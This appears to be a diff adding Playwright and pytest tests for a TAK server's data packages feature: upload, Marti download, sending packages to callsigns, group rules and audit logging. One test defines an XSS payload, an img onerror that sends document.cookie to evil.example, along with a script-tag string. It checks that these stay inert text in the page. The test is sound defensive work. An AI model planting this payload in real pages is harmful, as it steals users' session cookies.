@@ -1,0 +1,202 @@
+"""The data packages panel in a real Chromium against a real server and a TAK client over TCP and HTTP.
+
+A package uploaded in the page is listed and downloaded by the TAK client through the Marti routes
+ATAK uses; sending it to the client's callsign from the page delivers a ``b-f-t-r`` file transfer
+request whose URL and hash download the same bytes. A package a TAK client uploads with script
+payloads in its name, keywords and creator uid is listed as text: no script runs, no request leaves
+the origin. ``POST /api/packages/{hash}/send`` applies the group rules and is audited.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import socket
+import time
+import zipfile
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+from urllib.parse import urlparse
+
+import httpx
+import pytest
+from lxml import etree
+from playwright.sync_api import Page, Request, expect
+
+from tests.support.accounts import audit_entries, run_cli
+from tests.support.cot_client import sa
+from tests.support.poll import wait_until_sync
+from tests.support.server import ServerProcess
+
+RESULTS = Path("test-results/web")
+PASSWORD = "packages passphrase 1"
+XSS = '<img src=x onerror="window.__xss=1;fetch(\'http://evil.example/\'+document.cookie)">'
+SCRIPT = "<script>window.__xss=2</script>"
+
+
+@pytest.fixture
+def packages_server(data_dir: Path) -> Iterator[ServerProcess]:
+    """carol has no groups (she reads and writes ``__ANON__``, like plain TCP clients); alice is in A."""
+    run_cli(data_dir, "user", "add", "carol", "--password-stdin", stdin=PASSWORD + "\n")
+    run_cli(data_dir, "user", "add", "alice", "--group", "A", "--password-stdin", stdin=PASSWORD + "\n")
+    with ServerProcess(data_dir) as proc:
+        yield proc
+
+
+def _zip(marker: str) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        zf.writestr("MANIFEST/manifest.xml", f'<MissionPackageManifest version="2"><Configuration>'
+                    f'<Parameter name="uid" value="{marker}"/></Configuration><Contents/></MissionPackageManifest>')
+        zf.writestr(f"{marker}/note.txt", f"relief supplies {marker}")
+    return buf.getvalue()
+
+
+def _read_until(tak: socket.socket, needle: bytes, timeout: float = 15.0) -> bytes:
+    """Everything the server sent until one whole event containing ``needle`` arrived (deadline-bound)."""
+    deadline = time.monotonic() + timeout
+    data = b""
+    while time.monotonic() < deadline:
+        tak.settimeout(max(0.05, deadline - time.monotonic()))
+        try:
+            chunk = tak.recv(65536)
+        except TimeoutError:
+            break
+        if not chunk:
+            break
+        data += chunk
+        for event in data.split(b"</event>")[:-1]:
+            if needle in event:
+                return event[event.index(b"<event"):] + b"</event>"
+    raise AssertionError(f"no event with {needle!r} within {timeout}s; got {data[-500:]!r}")
+
+
+def _log_in(page: Page, server: ServerProcess, user: str = "carol") -> str:
+    base = f"http://127.0.0.1:{server.ports['http']}"
+    page.goto(f"{base}/")
+    page.fill("#user", user)
+    page.fill("#password", PASSWORD)
+    page.click("#login button[type=submit]")
+    expect(page.locator("#status")).to_have_text("live")
+    page.click("#panel-packages summary")
+    return base
+
+
+def test_upload_in_the_page_then_send_to_a_tak_client(packages_server: ServerProcess, webgl_page: Page) -> None:
+    page = webgl_page
+    base = _log_in(page, packages_server)
+    data = _zip("relief")
+    digest = hashlib.sha256(data).hexdigest()
+    with socket.create_connection(("127.0.0.1", packages_server.ports["cot"]), timeout=10) as tak:
+        tak.sendall(sa("ANDROID-bravo", "BRAVO", lat=9.52, lon=31.65))
+        page.wait_for_function("() => rallypoint.picture.units.has('ANDROID-bravo')")
+        page.set_input_files("#packages-file", files=[{"name": "relief.zip", "mimeType": "application/zip",
+                                                      "buffer": data}])
+        page.fill("#packages-keywords", "water,medical")
+        page.click("#packages-upload")
+        expect(page.locator("#packages-status")).to_have_text("uploaded: relief.zip")
+        row = page.locator(f"#packages-list li[data-hash='{digest}']")
+        expect(row.locator(".package-name")).to_have_text("relief.zip")
+        expect(row.locator(".package-keywords")).to_have_text("keywords: water, medical")
+        expect(row.locator(".package-hash")).to_have_text(f"sha256 {digest}")
+        # The TAK client finds and downloads it through Marti, as ATAK does.
+        found = httpx.get(f"{base}/Marti/sync/search", params={"keywords": "water"}, timeout=10).json()
+        assert [(r["Hash"], r["Name"], r["SubmissionUser"]) for r in found["results"]] == [
+            (digest, "relief.zip", "carol")]
+        assert httpx.get(f"{base}/Marti/sync/content", params={"hash": digest}, timeout=10).content == data
+        # The page's download link serves the same bytes with the session cookie.
+        with page.expect_download() as download:
+            row.get_by_role("link", name="Download relief.zip").click()
+        assert Path(download.value.path()).read_bytes() == data
+        # Send to BRAVO: the TAK client gets ATAK's file transfer request and downloads what it names.
+        row.get_by_label("Send relief.zip to callsign").fill("BRAVO")
+        row.get_by_role("button", name="Send").click()
+        expect(page.locator("#packages-status")).to_have_text("sent relief.zip to BRAVO")
+        RESULTS.mkdir(parents=True, exist_ok=True)
+        row.scroll_into_view_if_needed()
+        page.screenshot(path=str(RESULTS / "web-packages.png"))
+        request = etree.fromstring(_read_until(tak, b'type="b-f-t-r"'))
+    share = request.find("detail/fileshare")
+    assert share is not None and share.get("sha256") == digest and share.get("filename") == "relief.zip"
+    assert share.get("senderCallsign") == "carol" and share.get("senderUid") == "rallypoint-api-carol"
+    assert int(share.get("sizeInBytes")) == len(data)
+    assert request.find("detail/ackrequest") is not None and request.find("detail/marti") is None
+    got = httpx.get(share.get("senderUrl"), timeout=10)
+    assert got.status_code == 200 and hashlib.sha256(got.content).hexdigest() == digest
+    # An unknown contact: the server's words, nothing sent.
+    row.get_by_label("Send relief.zip to callsign").fill("NOBODY")
+    row.get_by_role("button", name="Send").click()
+    expect(page.locator("#packages-status")).to_have_text("no connected recipient you can reach by that name")
+
+
+def test_script_payloads_in_a_tak_upload_stay_text(packages_server: ServerProcess, webgl_page: Page) -> None:
+    page = webgl_page
+    outside: list[str] = []
+    dialogs: list[str] = []
+
+    def watch(request: Request) -> None:
+        if urlparse(request.url).hostname not in ("127.0.0.1", None) and not request.url.startswith(("data:", "blob:")):
+            outside.append(request.url)
+
+    page.on("request", watch)
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    base = _log_in(page, packages_server)
+    data = _zip("hostile")
+    digest = hashlib.sha256(data).hexdigest()
+    answer = httpx.post(f"{base}/Marti/sync/upload",
+                        params={"name": f"{XSS}.zip", "keywords": f"{XSS},{SCRIPT}", "creatorUid": SCRIPT},
+                        files={"assetfile": (f"{XSS}.zip", data, "application/zip")}, timeout=10)
+    assert answer.status_code == 200, answer.text
+    stored = httpx.get(f"{base}/api/packages/{digest}", timeout=10).json()
+    page.click("#packages-refresh")
+    row = page.locator(f"#packages-list li[data-hash='{digest}']")
+    expect(row.locator(".package-name")).to_have_text(stored["name"])  # as the server keeps it
+    expect(row.locator(".package-keywords")).to_have_text(f"keywords: {XSS}, {SCRIPT}")
+    expect(row.locator(".package-creator")).to_have_text(f"from {SCRIPT}")
+    assert row.locator("img, script").count() == 0
+    assert page.evaluate("() => window.__xss") is None
+    assert dialogs == [] and outside == []
+
+
+def test_send_applies_group_rules_and_is_audited(packages_server: ServerProcess, data_dir: Path) -> None:
+    base = f"http://127.0.0.1:{packages_server.ports['http']}"
+
+    def token(user: str) -> dict[str, str]:
+        answer = httpx.post(f"{base}/api/auth/token", auth=(user, PASSWORD), timeout=10)
+        return {"Authorization": f"Bearer {answer.json()['access_token']}"}
+
+    carol, alice = token("carol"), token("alice")
+    data = _zip("rules")
+    digest = hashlib.sha256(data).hexdigest()
+    for who in (carol, alice):
+        stored = httpx.post(f"{base}/api/packages", params={"name": "rules.zip"}, content=data,
+                            headers={**who, "Content-Type": "application/zip"}, timeout=10)
+        assert stored.status_code == 201, stored.text
+    send = f"{base}/api/packages/{digest}/send"
+    with socket.create_connection(("127.0.0.1", packages_server.ports["cot"]), timeout=10) as tak:
+        tak.sendall(sa("ANDROID-delta", "DELTA"))
+        wait_until_sync(lambda: any(c["callsign"] == "DELTA" for c in
+                                    httpx.get(f"{base}/api/clients", headers=carol, timeout=10).json()), "DELTA listed")
+        # alice (group A) does not reach an __ANON__ client: same answer as an unknown one.
+        refused = httpx.post(send, json={"to_callsign": "DELTA"}, headers=alice, timeout=10)
+        assert refused.status_code == 404 and refused.json()["error"] == "recipient_unreachable"
+        both = httpx.post(send, json={"to_callsign": "DELTA", "to_uid": "ANDROID-delta"}, headers=carol, timeout=10)
+        assert both.status_code == 422
+        unknown = httpx.post(f"{base}/api/packages/{'0' * 64}/send", json={"to_uid": "ANDROID-delta"},
+                             headers=carol, timeout=10)
+        assert unknown.status_code == 404 and unknown.json()["error"] == "not_found"
+        anonymous = httpx.post(send, json={"to_uid": "ANDROID-delta"}, timeout=10)
+        assert anonymous.status_code == 401
+        sent = httpx.post(send, json={"to_uid": "ANDROID-delta"}, headers=carol, timeout=10)
+        assert sent.status_code == 201, sent.text
+        body = sent.json()
+        assert (body["to_callsign"], body["recipients"], body["hash"]) == ("DELTA", 1, digest)
+        event = etree.fromstring(_read_until(tak, body["uid"].encode()))
+        assert event.get("type") == "b-f-t-r" and event.find("detail/fileshare").get("sha256") == digest
+    # Playwright's loop runs in this thread once a browser test of the module started: read the log in another.
+    with ThreadPoolExecutor(1) as pool:
+        entries = wait_until_sync(
+            lambda: [e for e in pool.submit(audit_entries, data_dir).result() if e.action == "package.send"],
+            "package.send audited")
+    assert [(e.actor, e.target) for e in entries] == [("carol", digest)]
